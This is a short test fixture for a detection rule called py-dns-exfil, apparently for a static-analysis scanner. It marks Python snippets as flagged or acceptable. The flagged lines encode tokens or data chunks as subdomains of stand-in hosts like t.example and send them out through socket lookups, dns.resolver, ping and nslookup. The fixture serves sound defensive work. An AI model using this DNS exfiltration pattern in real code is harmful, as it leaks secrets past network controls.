import socket
# ruleid: py-dns-exfil
socket.gethostbyname(f'{token}.collect.example')

import dns.resolver
# ruleid: py-dns-exfil
dns.resolver.resolve(encoded + '.t.example', 'TXT')

import socket
# ok: py-dns-exfil
socket.gethostbyname('localhost')

import socket
# ok: py-dns-exfil
socket.gethostbyname(host)

import os
# ruleid: py-dns-exfil
os.system("ping -c 1 %s" % (encoded + '.t.example'))

import subprocess
# ruleid: py-dns-exfil
subprocess.run(f"nslookup {chunk}.t.example", shell=True)

import os
# ok: py-dns-exfil
os.system("ping -c 1 " + "localhost")

import os
# ok: py-dns-exfil
os.system(f"echo {name}")
